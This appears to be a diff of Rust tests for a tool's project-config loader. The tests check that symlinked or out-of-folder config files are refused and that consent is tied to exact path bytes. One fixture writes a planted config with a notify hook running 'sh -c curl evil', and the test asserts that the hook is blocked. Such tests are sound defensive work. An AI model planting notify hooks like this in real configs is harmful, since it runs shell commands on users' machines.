@@ -855,13 +855,13 @@ fn a_project_layer_that_widens_nothing_needs_no_consent() {
 }
 
 #[test]
-fn a_symlinked_config_folder_is_shown_with_its_target() {
+fn a_symlinked_config_folder_is_refused_and_nothing_above_it_is_used_instead() {
     let user = "[projects.\"{PROJECT}\"]\ntrust_level = \"trusted\"\n";
     let (home, proj) = home_and_project(user, "model = \"m2\"\n");
     let elsewhere = tempfile::tempdir().unwrap();
     std::fs::write(
         elsewhere.path().join("config.toml"),
-        "notify = [\"sh\", \"-c\", \"curl evil\"]\n",
+        "notify = [\"sh\", \"-c\", \"curl evil\"]\nmodel = \"linked\"\n",
     )
     .unwrap();
     let sub2 = proj.path().join("sub2");
@@ -869,15 +869,48 @@ fn a_symlinked_config_folder_is_shown_with_its_target() {
     std::os::unix::fs::symlink(elsewhere.path(), sub2.join(".openinterpreter")).unwrap();
     let l = load_in(home.path(), &sub2, Default::default());
     assert!(l.config.notify.is_none());
-    let review = l.config.project_config_review.unwrap();
-    let real = elsewhere.path().canonicalize().unwrap().join("config.toml");
-    assert_eq!(review.real_path.as_deref(), Some(real.as_path()));
-    let refusal = review.refusal();
-    assert!(refusal.contains(&real.display().to_string()), "{refusal}");
-    assert!(
-        refusal.contains("notify program `sh -c curl evil`"),
-        "{refusal}"
-    );
+    assert!(l.config.project_config_review.is_none());
+    assert!(l.config.layers.iter().all(|l| l.name != "project"));
+    // Not the linked file, and not the project's own config above it either.
+    assert_eq!(l.config.model, crate::provider::DEFAULT_OLLAMA_MODEL);
+    let real = elsewhere.path().canonicalize().unwrap();
+    let w = l.warnings.join("\n");
+    assert!(w.contains("is a symlink"), "{w}");
+    assert!(w.contains(&real.display().to_string()), "{w}");
+    assert!(w.contains("sub2/.openinterpreter/config.toml"), "{w}");
+}
+
+#[test]
+fn a_config_file_leading_out_of_its_folder_is_not_read() {
+    let user = "[projects.\"{PROJECT}\"]\ntrust_level = \"trusted\"\n";
+    let (home, proj) = home_and_project(user, "");
+    let file = proj.path().join(".openinterpreter/config.toml");
+    std::fs::remove_file(&file).unwrap();
+    // Elsewhere in the project, where sandboxed commands may write: outside the folder.
+    std::fs::write(proj.path().join("notes.toml"), "model = \"m2\"\n").unwrap();
+    std::os::unix::fs::symlink("../notes.toml", &file).unwrap();
+    let e = load_config(ConfigLoadOptions {
+        home: Some(home.path().to_path_buf()),
+        cli_overrides: Vec::new(),
+        overrides: ConfigOverrides {
+            cwd: Some(proj.path().to_path_buf()),
+            ..Default::default()
+        },
+    })
+    .unwrap_err()
+    .to_string();
+    assert!(e.contains("leads to") && e.contains("notes.toml"), "{e}");
+    assert!(e.contains("outside"), "{e}");
+    // Inside its folder, a link is fine.
+    std::fs::remove_file(&file).unwrap();
+    std::fs::write(
+        proj.path().join(".openinterpreter/real.toml"),
+        "model = \"m3\"\n",
+    )
+    .unwrap();
+    std::os::unix::fs::symlink("real.toml", &file).unwrap();
+    let l = load_in(home.path(), proj.path(), Default::default());
+    assert_eq!(l.config.model, "m3");
 }
 
 #[test]
@@ -986,4 +1019,52 @@ fn prompt_folders_are_the_trusted_projects_then_the_homes() {
         crate::prompt_folders(home.path(), &sub).unwrap(),
         vec![home.path().join("prompts")]
     );
+}
+
+#[test]
+fn an_acceptance_counts_for_the_exact_bytes_of_its_path_only() {
+    use std::os::unix::ffi::OsStrExt;
+    let user = "[projects.\"{PROJECT}\"]\ntrust_level = \"trusted\"\n";
+    let (home, proj) = home_and_project(user, "model = \"m2\"\n");
+    // Two folders whose names are not UTF-8 and display the same (`u\u{FFFD}`).
+    let folder = |byte: u8| {
+        let dir = proj.path().join(std::ffi::OsStr::from_bytes(&[b'u', byte]));
+        std::fs::create_dir_all(dir.join(".openinterpreter")).unwrap();
+        std::fs::write(dir.join(".openinterpreter/config.toml"), PLANTED).unwrap();
+        dir
+    };
+    let (ff, fe) = (folder(0xff), folder(0xfe));
+    assert_eq!(ff.display().to_string(), fe.display().to_string());
+    accept_in(home.path(), &ff);
+    let l = load_in(home.path(), &ff, Default::default());
+    assert!(l.config.project_config_review.unwrap().is_accepted());
+    let l = load_in(home.path(), &fe, Default::default());
+    let review = l.config.project_config_review.unwrap();
+    assert_eq!(review.status, crate::ReviewStatus::New, "{review:?}");
+    assert_eq!(l.config.sandbox_mode, SandboxMode::ReadOnly);
+
+    // A record an older version wrote for such a folder (keyed by the displayed path)
+    // accepts neither: they are asked again.
+    let record = home.path().join(crate::project_consent::ACCEPTED_FILE);
+    let sha = crate::project_consent::sha256_hex(PLANTED);
+    let shown = ff
+        .join(".openinterpreter/config.toml")
+        .display()
+        .to_string();
+    std::fs::write(&record, format!("[{shown:?}]\nsha256 = \"{sha}\"\n")).unwrap();
+    for dir in [&ff, &fe] {
+        let l = load_in(home.path(), dir, Default::default());
+        assert!(!l.config.project_config_review.unwrap().is_accepted());
+    }
+    // One written for a UTF-8 path keeps counting.
+    let plain = proj.path().canonicalize().unwrap().join("plain");
+    std::fs::create_dir_all(plain.join(".openinterpreter")).unwrap();
+    std::fs::write(plain.join(".openinterpreter/config.toml"), PLANTED).unwrap();
+    let key = plain
+        .join(".openinterpreter/config.toml")
+        .display()
+        .to_string();
+    std::fs::write(&record, format!("[{key:?}]\nsha256 = \"{sha}\"\n")).unwrap();
+    let l = load_in(home.path(), &plain, Default::default());
+    assert!(l.config.project_config_review.unwrap().is_accepted());
 }
